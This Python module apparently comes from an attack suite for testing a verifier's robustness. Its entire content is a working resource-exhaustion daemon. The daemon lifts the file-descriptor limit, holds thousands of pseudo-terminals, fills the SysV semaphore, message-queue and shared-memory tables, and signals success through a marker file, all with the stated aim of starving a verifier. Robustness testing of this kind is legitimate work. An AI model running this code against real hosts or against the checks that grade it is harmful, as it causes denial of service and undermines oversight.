"""Uses up terminals, semaphores and message queues, in case the verifier needs one.

Source: CWE-770 (allocation without limits); man 7 svipc, man 4 pts.
"""

from attacks.frame import Attack, python_daemon

ATTACK = Attack(
    "shell",
    python_daemon("""
import resource
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
held = []
with contextlib.suppress(OSError):
    while len(held) < 4_000:
        held.append(os.openpty())
for make in (lambda: libc.semget(0, 1, 0o1666), lambda: libc.msgget(0, 0o1666), lambda: libc.shmget(0, 4096, 0o1666)):
    for n in range(33_000):
        if make() < 0:
            break
open("/tmp/seen", "w").close()
signal.pause()
"""),
    ran="for i in {1..100}; do [ -e /tmp/seen ] && break; sleep 0.05; done; [ -e /tmp/seen ]",
)
